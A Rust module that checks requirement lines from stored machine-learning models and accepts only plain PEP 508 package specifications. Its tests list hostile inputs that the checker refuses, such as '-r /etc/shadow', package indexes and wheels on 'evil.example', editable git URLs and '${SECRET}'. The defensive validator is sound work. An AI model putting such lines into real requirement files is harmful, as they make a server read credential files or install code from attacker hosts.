//! Packages of a model and their versions, and nothing else: lines of `requirements.txt`, and of lists in
//! `python_env.yaml` and `conda.yaml`.
//!
//! pip also takes options in this file (`--index-url`, `-r /etc/passwd`, `-e .`), URLs and paths. Whoever may
//! store a model would decide with them where this server downloads programs from and which of its files are
//! read. So only lines of PEP 508 with a name, extras, versions and a marker are taken; a line that is more is
//! refused by its number, never repeated: it may be a line of another file.

/// Requirements of one model: MLflow writes some tens, of everything that is installed some hundreds.
const LINES_MAX: usize = 10_000;

/// The requirements of a text of this file, one each line, without comments: in one spelling, in order, each once. Or
/// what is wrong and in which line.
pub(super) fn parse(text: &str, file: &str) -> Result<Vec<String>, String> {
    let mut requirements = Vec::new();
    for (index, line) in text.lines().enumerate() {
        if index >= LINES_MAX {
            return Err(format!("{file} has more than {LINES_MAX} lines"));
        }
        // As pip does it: a comment begins the line, or comes after a space.
        let line = line.split_once(" #").map_or(line, |(line, _)| line).trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        if !is_plain(line) {
            return Err(format!(
                "line {} of {file} is not a package with its versions; options, URLs and \
                 paths are not taken from a model\n\
                 hint: give an interpreter that has what the model needs with --python",
                index + 1
            ));
        }
        requirements.push(spelled(line));
    }
    requirements.sort();
    requirements.dedup();
    Ok(requirements)
}

/// The one spelling of a plain line: `Zope.Interface >= 5` is `zope-interface>=5`.
fn spelled(line: &str) -> String {
    let (package, marker) = match line.split_once(';') {
        Some((package, marker)) => (package, Some(marker.trim())),
        None => (line, None),
    };
    let is_name_char = |c: char| c.is_ascii_alphanumeric() || "._-".contains(c);
    let (name, rest) =
        package.split_at(package.find(|c| !is_name_char(c)).unwrap_or(package.len()));
    let mut text = name.to_ascii_lowercase().replace(['.', '_'], "-");
    text.extend(rest.chars().filter(|c| !c.is_whitespace()));
    if let Some(marker) = marker {
        text.push_str(" ; ");
        text.push_str(marker);
    }
    text
}

/// `name[extra,extra] (==1.0, <2) ; python_version > "3.9"`
fn is_plain(line: &str) -> bool {
    let (package, marker) = match line.split_once(';') {
        Some((package, marker)) => (package.trim_end(), Some(marker)),
        None => (line, None),
    };
    let is_name_char = |c: char| c.is_ascii_alphanumeric() || "._-".contains(c);
    let end = package.find(|c| !is_name_char(c)).unwrap_or(package.len());
    let (name, rest) = package.split_at(end);
    let (extras, versions) = match rest.trim_start().strip_prefix('[') {
        Some(rest) => match rest.split_once(']') {
            Some((extras, versions)) => (extras, versions.trim()),
            None => return false,
        },
        None => ("", rest.trim()),
    };
    let versions = match versions.strip_prefix('(') {
        Some(inner) => match inner.strip_suffix(')') {
            Some(inner) => inner.trim(),
            None => return false,
        },
        None => versions,
    };
    is_name(name)
        && (extras.trim().is_empty() || extras.split(',').all(|extra| is_name(extra.trim())))
        && (versions.is_empty() || versions.split(',').all(|one| is_version(one.trim())))
        && marker.is_none_or(is_marker)
}

/// A name begins and ends with a letter or digit.
fn is_name(text: &str) -> bool {
    let is_end = |byte: Option<&u8>| byte.is_some_and(u8::is_ascii_alphanumeric);
    let bytes = text.as_bytes();
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"._-".contains(byte);
    is_end(bytes.first()) && is_end(bytes.last()) && bytes.iter().all(plain) && !is_archive(text)
}

/// pip takes a name that ends like an archive for a file.
fn is_archive(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    [".whl", ".zip", ".tar", ".tgz", ".tbz", ".txz", ".tlz", ".gz", ".bz2", ".xz", ".lz", ".lzma"]
        .iter()
        .any(|end| name.ends_with(end))
}

/// `==1.2.*`, `>= 2.0rc1`, `!=1!2.0+cu118`
fn is_version(text: &str) -> bool {
    const OPERATORS: [&str; 8] = ["===", "==", "~=", "!=", "<=", ">=", "<", ">"];
    let version = OPERATORS.iter().find_map(|operator| text.strip_prefix(operator));
    version.map(str::trim).is_some_and(|version| {
        let plain = |c: char| c.is_ascii_alphanumeric() || ".*+!_-".contains(c);
        !version.is_empty() && !version.starts_with('-') && version.chars().all(plain)
    })
}

/// A condition of names, versions and quoted texts.
fn is_marker(text: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || " \t._-'\"<>=!~(),+*".contains(c);
    // A word that begins with a dash is an option of pip again.
    let has_option = || text.split_whitespace().any(|word| word.starts_with('-'));
    !text.trim().is_empty() && text.chars().all(plain) && !has_option()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_mlflow_writes_is_taken() {
        let text = "# made by MLflow\nmlflow==3.17.2\ncloudpickle == 3.1.2\n\nscikit-learn[alldeps]>=1.2,<2  # why\n\
                    torch===2.0.1+cu118\nzope.interface (>=5)\nnumpy~=1.26; python_version < \"3.12\"\n\
                    a.b_c-d !=1.*\nuvloop; sys_platform != 'win32' and (os_name == 'posix')\r\n";
        let lines = parse(text, "requirements.txt").unwrap();
        let expected = [
            "a-b-c-d!=1.*",
            "cloudpickle==3.1.2",
            "mlflow==3.17.2",
            "numpy~=1.26 ; python_version < \"3.12\"",
            "scikit-learn[alldeps]>=1.2,<2",
            "torch===2.0.1+cu118",
            "uvloop ; sys_platform != 'win32' and (os_name == 'posix')",
            "zope-interface(>=5)",
        ];
        assert_eq!(lines, expected);
        assert_eq!(parse("numpy == 1\nNumPy==1\n", "x").unwrap(), ["numpy==1"]);
    }

    #[test]
    fn all_else_that_pip_would_obey_is_refused_by_its_line() {
        for line in [
            "-r /etc/shadow",
            "-r/etc/shadow",
            "--requirement /etc/shadow",
            "-c constraints.txt",
            "--index-url https://evil.example/simple",
            "--extra-index-url=https://evil.example/simple",
            "-i https://evil.example",
            "--find-links /tmp",
            "-f /tmp",
            "--trusted-host evil.example",
            "--pre",
            "--no-binary :all:",
            "-e .",
            "-e git+https://evil.example/x#egg=x",
            "--editable=/tmp/x",
            "git+https://evil.example/x",
            "https://evil.example/x.whl",
            "file:///tmp/x",
            "file:x",
            "./x",
            "../x",
            "/tmp/x",
            "~/x",
            ".",
            "x.whl",
            "x-1.0-py3-none-any.whl",
            "x.tar.gz",
            "x @ https://evil.example/x.whl",
            "x@file:///tmp/x",
            "x==1.0 --hash=sha256:aa",
            "x==1.0 --config-settings=a=b",
            "x==1.0 --global-option=\"--x\"",
            "x==1.0 ; python_version > '3' --hash=sha256:aa",
            "${SECRET}",
            "x==${SECRET}",
            "x==1.0 \\",
            "x y",
            "x==",
            "==1.0",
            "x[a",
            "x[-a]",
            "x (==1",
            "x;",
            "root:x:0:0:root:/root:/bin/bash",
            "x==1.0\u{0}",
        ] {
            let text = format!("# a comment\nfine==1.0\n{line}\n");
            let error = parse(&text, "requirements.txt").unwrap_err();
            assert!(error.contains("line 3 of requirements.txt"), "{line}: {error}");
            assert!(!error.contains("evil") && !error.contains("root:"), "{error}");
        }
    }
}
